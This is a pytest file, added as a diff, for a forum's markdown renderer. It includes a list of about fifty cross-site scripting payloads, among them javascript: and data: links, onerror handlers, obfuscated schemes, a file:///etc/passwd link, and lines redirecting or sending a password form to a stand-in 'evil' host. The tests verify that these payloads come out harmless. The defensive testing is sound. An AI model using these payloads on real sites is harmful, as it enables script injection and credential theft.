@@ -1,0 +1,159 @@
+"""Texts of members: what they may look like, what is found in them, and what never gets through."""
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from jeos.server.content import markdown
+
+# Ways to bring a script into a page, as they were found in many sites over the years.
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x]( javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    '[x](http://a "onmouseover=alert(1)")',
+    '[x](http://a "\\"><script>alert(1)</script>")',
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    '![x](x "onerror=alert(1)")',
+    '![x" onerror="alert(1)](http://a)',
+    "```<script>alert(1)</script>\nx\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```x onload=alert(1)\ny\n```",
+    "`<script>alert(1)</script>`",
+    "<style>@import 'http://evil'</style>",
+    "<base href=http://evil>",
+    "<meta http-equiv=refresh content=0;url=http://evil>",
+    "<form action=http://evil><input name=password>",
+    "<button formaction=javascript:alert(1)>x",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=http://a hx-on:click=alert(1) hx-get=/x>x</a>",
+    "<div hx-get=/x hx-trigger=load>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "@ada<script>alert(1)</script>",
+    '|a|\n|:-:" onclick=alert(1)|\n|b|',
+    "\u2028<script>alert(1)</script>",
+    "\x00<script>alert(1)</script>",
+]
+ALLOWED = {
+    *("p", "br", "hr", "blockquote", "pre", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li"),
+    *("table", "thead", "tbody", "tr", "th", "td"),
+    *("a", "abbr", "b", "strong", "i", "em", "s", "del", "sub", "sup", "code", "kbd"),
+}
+ALLOWED_ATTRIBUTES = {"href", "title", "class", "rel", "start"}
+
+
+class Reader(HTMLParser):
+    """Reads HTML as a browser would, and notes what is in it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+
+def assert_harmless(html: str) -> None:
+    reader = Reader()
+    reader.feed(html)
+    reader.close()
+    assert set(reader.tags) <= ALLOWED
+    for name, value in reader.attributes:
+        assert name in ALLOWED_ATTRIBUTES
+        if name == "href":
+            low = "".join(value.split()).lower()
+            assert low.startswith(("http://", "https://", "mailto:", "/", "#", "?")) or ":" not in low
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_text_that_brings_a_script_is_harmless(attack: str) -> None:
+    assert_harmless(markdown.render(attack, handles={"ada"}).html)
+    assert_harmless(markdown.render(f"> * {attack}", handles={"ada"}).html)
+
+
+@given(st.text(alphabet=st.sampled_from(list("<>\"'`[]()!#*_-|:@/\\&;=\n\t azscript")), max_size=120))
+def test_any_text_is_harmless_and_ends(text: str) -> None:
+    assert_harmless(markdown.render(text, handles={"a", "s"}).html)
+
+
+def test_markdown_looks_as_one_expects() -> None:
+    made = markdown.render("# Title\n\n**bold** `code` ~~gone~~\n\n| a | b |\n| :-: | --: |\n| 1 | 2 |").html
+    assert made == (
+        "<h2>Title</h2>\n<p><strong>bold</strong> <code>code</code> <s>gone</s></p>\n<table>\n<thead>\n<tr>\n"
+        '<th class="centre">a</th>\n<th class="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
+        '<td class="centre">1</td>\n<td class="right">2</td>\n</tr>\n</tbody>\n</table>\n'
+    )
+
+
+def test_link_is_not_followed_by_search_engines() -> None:
+    made = markdown.render("see https://example.org/x and [that](mailto:a@b.example)")
+    assert made.html == (
+        '<p>see <a href="https://example.org/x" rel="nofollow ugc noopener">https://example.org/x</a> and '
+        '<a href="mailto:a@b.example" rel="nofollow ugc noopener">that</a></p>\n'
+    )
+    assert made.links == 2
+
+
+def test_foreign_image_is_not_loaded() -> None:
+    assert "<img" not in markdown.render("![seen](https://tracker.example/pixel.png)").html
+
+
+def test_mention_of_a_member_is_a_link_and_of_nobody_is_not() -> None:
+    made = markdown.render("@Ada, @nobody, mail@ada.example, `@ada`, @ada-", handles={"ada"})
+    assert made.html == (
+        '<p><a href="/m/ada/" class="mention" rel="nofollow ugc noopener">@Ada</a>, @nobody, mail@ada.example, '
+        "<code>@ada</code>, @ada-</p>\n"
+    )
+    assert made.mentions == ("ada",)
+    assert made.links == 0
+
+
+def test_plain_text_leaves_out_what_others_said() -> None:
+    made = markdown.render("> @bob [#3](/p/3):\n>\n> old words\n\nnew *words*\nhere\n\n```\ncode\n```")
+    assert made.plain == "new words here\ncode"
+
+
+def test_quotation_reads_back_as_one() -> None:
+    quoted = markdown.quote("one\n\ntwo", handle="ada", number=7, url="/forum/p/9/")
+    assert quoted == "> @ada [#7](/forum/p/9/):\n>\n> one\n>\n> two\n\n"
+    assert markdown.render(quoted, handles={"ada"}).html.startswith("<blockquote>")
+
+
+def test_deep_nesting_costs_no_more_than_a_bound() -> None:
+    assert_harmless(markdown.render(">" * 5_000 + " x").html)
+    assert_harmless(markdown.render("[" * 5_000).html)
+    assert_harmless(markdown.render("*a " * 5_000).html)
+
+
+@pytest.mark.parametrize(
+    ("text", "length", "short"),
+    [("a b c", 10, "a b c"), ("aaa bbb ccc", 8, "aaa bbb …"), ("aaaaaaaaaa", 4, "aaaa …"), ("a\n\n b", 10, "a b")],
+)
+def test_summary_is_cut_between_words(text: str, length: int, short: str) -> None:
+    assert markdown.summary(text, length=length) == short
